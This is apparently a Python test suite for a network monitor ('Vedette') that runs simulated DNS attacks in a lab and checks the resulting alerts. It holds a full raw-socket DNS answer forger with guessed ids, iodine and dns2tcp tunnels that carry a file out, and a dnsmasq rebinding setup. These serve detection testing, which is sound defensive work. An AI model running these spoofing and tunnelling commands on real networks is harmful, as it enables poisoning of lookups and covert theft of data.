#!/usr/bin/env python3
"""Attacks with the tools that people use: iodine and dns2tcp carry data out through names, a
resolver answers a public name with a private address, and somebody guesses the ids of answers."""

import pathlib
import subprocess
import sys
import unittest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "lab"))
import dhcp  # noqa: E402
import lab  # noqa: E402

PROGRAM = None
DESK_MAC, DESK, SERVER = "f4:6b:ef:6a:ad:c4", "198.51.100.7", "198.51.100.1"
DOMAIN = "t.example.com"

# Answers in the name of the server to the port that has just asked; their ids are guesses.
FORGE = r"""
import random, socket, struct, sys
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
source, target = (socket.inet_aton(address) for address in sys.argv[1:3])
question = b"\4bank\7example\3com\0" + struct.pack("!HH", 1, 1)
record = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton("203.0.113.66")
for i in range(60):
    dns = struct.pack("!6H", random.getrandbits(16), 0x8180, 1, 1, 0, 0) + question + record
    udp = struct.pack("!4H", 53, 40000, 8 + len(dns), 0) + dns
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), i, 0, 64, 17, 0, source, target)
    raw.sendto(head + udp, (sys.argv[2], 0))
"""
# A resolver that has to ask others first: each answer takes two seconds.
SLOW = r"""
import socket, struct, sys, time
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
    server.bind((sys.argv[1], 53))
    print("ready", flush=True)
    while True:
        query, client = server.recvfrom(512)
        time.sleep(2)
        end = query.index(b"\0", 12) + 5
        record = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton("192.0.2.1")
        head = query[:2] + struct.pack("!5H", 0x8180, 1, 1, 0, 0)
        server.sendto(head + query[12:end] + record, client)
"""


class Attacks(unittest.TestCase):
    def setUp(self):
        self.lan = lab.Lan()
        self.addCleanup(self.lan.close)
        self.server = self.lan.machine("server", "00:16:3e:00:00:01", SERVER)
        self.desk = self.lan.machine("desk", DESK_MAC, DESK)
        self.vedette = lab.Vedette(PROGRAM, self.lan.folder / "vedette")
        watch = self.vedette.watch()
        self.addCleanup(lambda: watch.process.poll() is None and watch.stop())

    def expect_tunnel(self, tool):
        alert = self.vedette.wait_for_alert("tunnel", client=DESK)
        self.assertIn(f"resembles {tool}", alert["reason"])
        self.assertIn(DOMAIN.split(".", 1)[1], alert["subject"])
        self.assertEqual(alert["client_mac"], DESK_MAC)

    @lab.needs("iodine", "iodined", "ping")
    def test_iodine(self):
        if not pathlib.Path("/dev/net/tun").exists():
            self.skipTest("no /dev/net/tun here")
        self.server.start("iodined", "-f", "-c", "-P", "secret", "10.9.0.1", DOMAIN)
        client = self.desk.start("iodine", "-f", "-r", "-T", "TXT", "-P", "secret", SERVER, DOMAIN)
        lab.wait_until(lambda: "10.9.0." in self.desk.run("ip", "address") or client.poll(),
                       "iodine's interface")
        self.desk.run("ping", "-c", "40", "-i", "0.05", "-s", "600", "-W", "1", "10.9.0.1")
        self.expect_tunnel("iodine")

    @lab.needs("dns2tcpd", "dns2tcpc", "curl")
    def test_dns2tcp(self):
        folder = self.lan.folder
        (folder / "file").write_bytes(bytes(i * 37 % 256 for i in range(20_000)))
        config = folder / "dns2tcpd.conf"
        config.write_text(f"listen = {SERVER}\nport = 53\nuser = nobody\nchroot = /tmp\n"
                          f"domain = {DOMAIN}\nkey = secret\nresources = web:127.0.0.1:8080\n")
        self.server.start(sys.executable, "-m", "http.server", "8080", "--bind", "127.0.0.1",
                          "--directory", folder)
        self.server.start("dns2tcpd", "-F", "-f", config)
        self.desk.start("dns2tcpc", "-c", "-z", DOMAIN, "-k", "secret", "-r", "web", "-l", "8000",
                        SERVER)
        got = folder / "got"

        def fetched():
            self.desk.run("curl", "-s", "-m", "20", "-o", got, "http://127.0.0.1:8000/file")
            return got.exists() and got.read_bytes() == (folder / "file").read_bytes()
        lab.wait_until(fetched, "the file through the tunnel")
        self.expect_tunnel("dns2tcp")

    @lab.needs("dnsmasq", "dig")
    def test_a_public_name_with_a_private_address(self):
        name = "www.evil.example.com"
        for address in ("203.0.113.66", "192.168.1.1"):  # as a page finds it, then as it turns
            server = dhcp.start_dnsmasq(self.server, f"--address=/evil.example.com/{address}")
            lab.wait_until(lambda a=address: self.desk.dig(SERVER, name) == a, "the answer")
            lab.end_process(server)
        alert = self.vedette.wait_for_alert("answer.rebinding")
        for words in ("www.evil.example.com", "192.168.1.1", SERVER):
            self.assertIn(words, alert["reason"])

    @lab.needs("dig")
    def test_answers_that_are_guesses(self):
        forger = self.lan.machine("forger", "00:16:3e:00:00:66", "198.51.100.66")
        slow = self.server.start(sys.executable, "-c", SLOW, SERVER, stdout=subprocess.PIPE)
        self.assertEqual(slow.stdout.readline(), "ready\n")
        dig = self.desk.start("dig", "+short", "+tries=1", "+time=20", f"@{SERVER}", "-b",
                              DESK + "#40000", "bank.example.com", stdout=subprocess.PIPE)
        forger.run(sys.executable, "-c", FORGE, SERVER, DESK, check=True)
        self.assertEqual(dig.communicate(timeout=lab.PATIENCE)[0].splitlines()[-1], "192.0.2.1")
        alert = self.vedette.wait_for_alert("answer.spoofed")
        self.assertEqual((alert["client"], alert["server"]), (DESK, SERVER))
        self.assertIn("different ids hit port 40000", alert["reason"])


def setup(program):
    global PROGRAM
    PROGRAM = program


if __name__ == "__main__":
    lab.run_tests(setup, ("sysctl",))
